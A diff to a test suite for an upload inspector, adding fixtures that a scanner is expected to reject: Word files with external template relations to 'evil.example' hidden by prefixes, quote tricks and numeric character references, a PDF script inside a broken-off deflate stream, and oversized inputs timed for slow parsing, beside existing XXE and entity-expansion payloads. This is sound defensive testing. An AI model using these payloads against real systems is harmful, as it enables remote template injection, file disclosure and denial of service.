@@ -1,4 +1,4 @@
-import { deflateSync } from 'node:zlib';
+import { deflateSync, constants as zlib } from 'node:zlib';
 import { inspectFile } from '@server/modules/attachment/inspect-file';
 import { aDocx, aJpeg, aJpegClaiming, aPdf, aZip } from '@tests/support/sample-files';
 import { strToU8, zipSync } from 'fflate';
@@ -23,6 +23,11 @@ const aWordFile = (parts: Record<string, string | Uint8Array> = {}): Buffer =>
 const relation = (type: string, target: string): Buffer =>
   aWordFile({
     'word/_rels/document.xml.rels': `<Relationships xmlns="x"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
+  });
+const FRAME = 'Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"';
+const relations = (tags: string): Buffer =>
+  aWordFile({
+    'word/_rels/document.xml.rels': `<Relationships xmlns="x" xmlns:p="x">${tags}</Relationships>`,
   });
 const XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>';
 const LAUGHS = `<!DOCTYPE x [<!ENTITY a "ha">${'<!ENTITY b "&a;&a;">'.repeat(9)}]><x>&b;</x>`;
@@ -72,6 +77,15 @@ describe('a Word file [req:attack-a56 req:attack-a58 req:attack-a59]', () => {
     ['a frame of another machine', relation('frame', 'http://evil.example/')],
     ['a picture of another machine', relation('image', 'https://evil.example/seen.png')],
     ['a picture of a share', relation('image', '\\\\evil.example\\seen.png')],
+    ['a template under a prefix', relations(`<p:Relationship ${FRAME}/>`)],
+    ['a template behind a sign like an end', relations(`<Relationship Id="a>" ${FRAME}/>`)],
+    ['a template behind another sign like one', relations(`<Relationship Id='">' ${FRAME}/>`)],
+    [
+      'a template whose letters are written in numbers',
+      relations(
+        `<Relationship ${FRAME.replace('External', '&#69;xtern&#x61;l').replace('https', '&#104;ttps').replace('Templ', '&#x54;empl')}/>`,
+      ),
+    ],
     ['a macro', aWordFile({ 'word/vbaProject.bin': 'x' })],
     ['a macro under a name of its own', aWordFile({ 'word/VBAPROJECT.BIN': 'x' })],
     ['a control', aWordFile({ 'word/activeX/activeX1.xml': '<x/>' })],
@@ -158,6 +172,9 @@ const aPdfWith = (objects: string, packed?: { dictionary?: string; bytes?: Buffe
   );
 };
 const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>';
+/** Whoever unpacks it is shown the script before the fault. */
+const brokenOff = (objects: string): Buffer =>
+  Buffer.concat([deflateSync(objects, { finishFlush: zlib.Z_SYNC_FLUSH }), Buffer.from([7])]);
 const HARMLESS = '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.com/) >> >>';
 
 describe('a PDF [req:attack-a58]', () => {
@@ -165,6 +182,7 @@ describe('a PDF [req:attack-a58]', () => {
     ['a script', aPdfWith(SCRIPT)],
     ['a script whose name is written in numbers', aPdfWith(SCRIPT.replace('/JavaScript', '/J#61vaScr#69pt'))],
     ['a script among packed objects', aPdfWith(SCRIPT, {})],
+    ['a script among packed objects that break off', aPdfWith('', { bytes: brokenOff(SCRIPT) })],
     [
       'a script among packed objects of a masked kind',
       aPdfWith(SCRIPT, { dictionary: '/Type /Obj#53tm /Filter /FlateDecode' }),
@@ -210,6 +228,34 @@ describe('a PDF [req:attack-a58]', () => {
     ['a word like it', aPdfWith('<< /Title (JavaScript) /JavaScripts 1 >>')],
   ])('with %s is taken', async (_what, bytes) => {
     expect(await inspect(bytes, '报告.pdf')).toEqual({ type: 'application/pdf' });
+  });
+});
+
+describe('a document made to be looked at without end [req:attack-a61]', () => {
+  const UNITS = [
+    '/XFA%',
+    '%/XFA\n',
+    '/XFA ',
+    'stream\n',
+    '/ObjStm stream\n',
+    '#41',
+    '/First ',
+    ' obj',
+    'startxref 1 ',
+  ];
+  const TAGS = ['<?xml', '<?xml encoding ', '<Relationship ', '<Relationship "', '<x "\'', '&#', '<!', '<a:'];
+  const many = (unit: string, length = 300_000): string => unit.repeat(length / unit.length);
+  it.each<[string, Buffer]>([
+    ...UNITS.map((unit): [string, Buffer] => [
+      `a PDF of ${JSON.stringify(unit)}`,
+      Buffer.from(`%PDF-1.7\n${many(unit)}\n%%EOF`),
+    ]),
+    ...TAGS.map((unit): [string, Buffer] => [`a Word file of ${unit}`, relations(many(unit))]),
+  ])('%s is soon done with', async (what, bytes) => {
+    const began = performance.now();
+    await inspect(bytes, what.includes('PDF') ? '报告.pdf' : '协议.docx');
+
+    expect(performance.now() - began).toBeLessThan(1500);
   });
 });
 
